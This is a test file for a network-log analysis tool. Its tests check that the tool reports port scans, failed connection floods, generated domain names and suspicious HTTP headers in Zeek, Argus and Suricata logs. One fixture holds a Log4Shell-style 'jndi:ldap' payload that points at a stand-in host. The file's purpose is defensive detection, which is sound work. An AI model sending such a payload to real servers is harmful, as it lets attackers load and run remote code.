import { deepEqual, equal, match, ok } from 'node:assert/strict';
import { connLog, digestOf, type FlowCells, findingsOf, markedIn, office, zeekLog } from '../../unit/core/digest/logs';

/** What captures of others look like: short, of one client, of public addresses, with clocks that begin at 0. */
describe('captures as they come', () => {
  const client = '192.168.1.107';
  const flow = (cells: Partial<FlowCells>): FlowCells => ({
    time: 0,
    source: client,
    target: '203.0.113.9',
    port: 443,
    ...cells,
  });
  const textsOf = async (files: Record<string, string>) =>
    findingsOf(await digestOf(files)).map(({ finding, text }) => `${finding} ${text}`);

  it('name a client that asks a dead server hundreds of times', async () => {
    const knocks = Array.from({ length: 400 }, (_, at) => flow({ time: 100 + at * 0.7, port: 5_888, state: 'S0' }));
    const found = await textsOf({
      'conn.log': connLog([...knocks, flow({ time: 5 }), flow({ time: 9, target: '198.51.100.3' })]),
    });

    equal(found.length, 1);
    match(
      found[0] ?? '',
      /^medium .*192\.168\.1\.107 → 203\.0\.113\.9: 400 attempts on 5888\/tcp without a connection/,
    );
  });

  it('call a scanner one although it is all that there is to compare with', async () => {
    const scan = Array.from({ length: 60 }, (_, at) =>
      flow({ time: at, target: `198.51.${at}.7`, port: 23, state: 'REJ' }),
    );

    match(
      (await textsOf({ 'conn.log': connLog(scan) }))[0] ?? '',
      /^medium .*23\/tcp at 60 hosts \(60 without a connection\)/,
    );
  });

  it('tell datagrams to one host after the other from a network of peers', async () => {
    const [next, all] = [(at: number) => `198.51.100.${at}`, (at: number) => `198.${at}.${(at * 7) % 250}.9`];
    const to = async (targets: (at: number) => string) => {
      const flows = Array.from({ length: 90 }, (_, at) =>
        flow({ time: at, target: targets(at + 1), port: 6_892, protocol: 'udp', state: 'S0' }),
      );
      return (await textsOf({ 'conn.log': connLog(flows) }))[0]?.split(' ')[0];
    };

    deepEqual([await to(next), await to(all)], ['medium', 'low']);
  });

  it('show a scan of many hosts as one matter', async () => {
    const scan = [1, 2, 3, 4].flatMap(host =>
      Array.from({ length: 30 }, (_, at) => flow({ time: at, target: `10.0.2.${host}`, port: 100 + at, state: 'REJ' })),
    );
    const found = await textsOf({ 'conn.log': connLog(scan) });

    equal(found.filter(text => text.includes('ports tried')).length, 1);
    match(found.join('\n'), /up to 30 ports tried without a connection at 4 hosts/);
  });

  it('know the own network by where everything was recorded, also with public addresses', async () => {
    const server = '198.51.100.20';
    const scan = Array.from({ length: 60 }, (_, at) =>
      flow({ time: at, source: '203.0.113.66', target: server, port: 100 + at, state: 'REJ' }),
    );
    const own = Array.from({ length: 60 }, (_, at) => flow({ time: at, source: server, target: `9.${at}.3.4` }));
    const made = await digestOf({ 'conn.log': connLog([...scan, ...own]) });

    deepEqual(
      findingsOf(made).map(({ suspects }) => suspects),
      [['203.0.113.66']],
    );
  });

  it('count no mail as TLS, and no certificate as too young where the clock begins at 0', async () => {
    const smtp = {
      ts: 1_641_918_756,
      uid: 'C1',
      'id.orig_h': '10.1.11.101',
      'id.orig_p': 4_000,
      'id.resp_h': '203.0.113.25',
      'id.resp_p': 25,
      helo: 'a',
      subject: 'Lunch',
      tls: false,
    };
    const ssl = {
      ts: 95.2,
      uid: 'C2',
      'id.orig_h': client,
      'id.orig_p': 4_001,
      'id.resp_h': '203.0.113.9',
      'id.resp_p': 443,
      server_name: 'www.example.org',
      subject: 'CN=www.example.org',
      issuer: 'CN=An Authority',
      validation_status: 'certificate is not yet valid',
    };
    const made = await digestOf({ 'smtp.log': JSON.stringify(smtp), 'ssl.log': JSON.stringify(ssl) });

    deepEqual(
      findingsOf(made).map(({ text }) => text),
      [],
    );
    match(made.rows.map(({ text }) => text).join('\n'), /other: 1/);
  });

  it('hold no missing name of a service against a flow where the log names none', async () => {
    const lines = Array.from(
      { length: 40 },
      (_, at) => `2026-11-11 10:00:${10 + at},10.0.0.5,203.0.113.${at},tcp,4444,90000,5000`,
    );
    const found = await textsOf({
      'flows.csv': ['time,src_ip,dst_ip,proto,dst_port,bytes_out,bytes_in', ...lines].join('\n'),
    });

    deepEqual(found, []);
  });

  it('understand what Argus writes: sums of both ways, flags of both sides, types of ICMP in hexadecimal', async () => {
    const head = 'StartTime,Dur,Proto,SrcAddr,Sport,Dir,DstAddr,Dport,State,sTos,dTos,TotPkts,TotBytes,SrcBytes,Label';
    const row = (at: number, cells: string) =>
      `2026/04/04 16:23:${String(at % 60).padStart(2, '0')}.325010,0.5,${cells}`;
    const scan = Array.from({ length: 30 }, (_, at) =>
      row(at, `tcp,10.8.0.69,5000,   ->,203.0.113.${at},23,S_RA,0,0,2,134,74,`),
    );
    const ping = Array.from({ length: 30 }, (_, at) =>
      row(at, `icmp,10.8.0.69,0x0008,  ->,198.51.100.${at},0x7208,ECO,0,,2,144,144,`),
    );
    const send = row(7, 'tcp,10.8.0.69,5001,   ->,203.0.113.99,443,FSPA_FSPA,0,0,90,40000000,50000,');
    const made = await digestOf({ 'a.binetflow': [head, ...scan, ...ping, send].join('\n') });
    const found = findingsOf(made).map(({ text }) => text);

    match(found.join('\n'), /23\/tcp at 30 hosts \(30 without a connection\)/);
    match(found.join('\n'), /icmp at 30 hosts/);
    ok(!found.join('\n').includes('sent out'));
    match(made.rows.map(({ text }) => text).join('\n'), /203\.0\.113\.99 443\/tcp ×1 out 50\.0 kB in 40\.0 MB/);
  });

  it('read a header behind blanks, and the kind of a file of JSON from its name', async () => {
    const ssh = (at: number) =>
      JSON.stringify({
        ts: 1_599_755_438 + at,
        uid: `C${at}`,
        'id.orig_h': '203.0.113.5',
        'id.orig_p': 5_000,
        'id.resp_h': '192.168.1.194',
        'id.resp_p': 22,
        auth_success: true,
        client: 'SSH-2.0-PuTTY_Release_0.62',
      });
    const made = await digestOf({
      'conn.log': `\t${connLog(Array.from({ length: 60 }, (_, at) => flow({ time: at, target: `198.51.${at}.7`, port: 23, state: 'REJ' })))}`,
      'ssh.log': [1, 2, 3].map(ssh).join('\n'),
    });
    const found = findingsOf(made)
      .map(({ text }) => text)
      .join('\n');

    match(found, /23\/tcp at 60 hosts/);
    match(found, /192\.168\.1\.194 takes log-ins from an address of the internet \(203\.0\.113\.5 ×3\)/);
    ok(!found.includes('PuTTY'));
  });

  it('find generated names that can be spoken by their even length, and leave mistyped ones alone', async () => {
    const names = (of: (at: number) => string) =>
      zeekLog(
        'dns',
        'ts id.orig_h id.resp_h proto query qtype_name rcode_name'.split(' '),
        Array.from({ length: 60 }, (_, at) => `${at}\t10.0.0.8\t10.0.0.2\tudp\t${of(at)}\tA\tNXDOMAIN`),
      );
    const spoken = (at: number) =>
      `${'vg'[at % 2]}${'aeiou'[at % 5]}${'cdlm'[at % 4]}${'yo'[at % 2]}z${'aeiou'[(at * 3) % 5]}${'tnr'[at % 3]}.com`;
    const typed = (at: number) => `${'exampleshopnewsmailweather'.slice(at % 9, 12 + (at % 13))}${at % 7}.com`;

    match((await textsOf({ 'dns.log': names(spoken) }))[0] ?? '', /^medium .*all of about one length/);
    ok(!(await textsOf({ 'dns.log': names(typed) })).some(text => text.startsWith('medium')));
  });

  it('see orders to a server in headers, and take them graver from an own host', async () => {
    const http = (from: string) =>
      zeekLog('http', 'ts id.orig_h id.resp_h id.resp_p method host uri user_agent status_code'.split(' '), [
        `5\t${from}\t203.0.113.80\t80\tGET\tshop.example\t/\t\${jndi:ldap://x.example/a}\t200`,
      ]);

    match((await textsOf({ 'http.log': http('10.0.0.8') }))[0] ?? '', /^medium .*jndi/);
    match((await textsOf({ 'http.log': http('198.51.100.7') }))[0] ?? '', /^low .*jndi/);
  });

  it('put all rules that only know a list of addresses into one row', async () => {
    const alert = (at: number) =>
      JSON.stringify({
        timestamp: '2026-06-06T13:57:37.000000+0000',
        event_type: 'alert',
        src_ip: `198.51.100.${at}`,
        dest_ip: '192.168.1.129',
        src_port: 5_000,
        dest_port: 22,
        proto: 'TCP',
        alert: {
          signature: `ET CINS Active Threat Intelligence Poor Reputation IP group ${at}`,
          category: 'Misc Attack',
          severity: 2,
          signature_id: at,
        },
      });
    const found = await textsOf({ 'eve.json': Array.from({ length: 30 }, (_, at) => alert(at + 1)).join('\n') });

    equal(found.length, 1);
    match(found[0] ?? '', /^low .*30 rules say that listed addresses came in from outside/);
  });

  it('let two weak signs of the only client stay weak', async () => {
    const long = [
      flow({ time: 10, target: '203.0.113.1', duration: 30_000, service: 'ssl' }),
      flow({ time: 20, target: '203.0.113.2', duration: 28_000, service: 'ssl' }),
    ];
    const loud = flow({ time: 30, target: '203.0.113.3', port: 10_000, out: 9e6, back: 10, duration: 30, service: '' });
    const made = await digestOf({ 'conn.log': connLog([...long, loud]) });

    ok(!findingsOf(made).some(({ text }) => text.includes('graver finding')));
    ok(markedIn(made).has('203.0.113.3') && office(1).length > 0);
  });
});
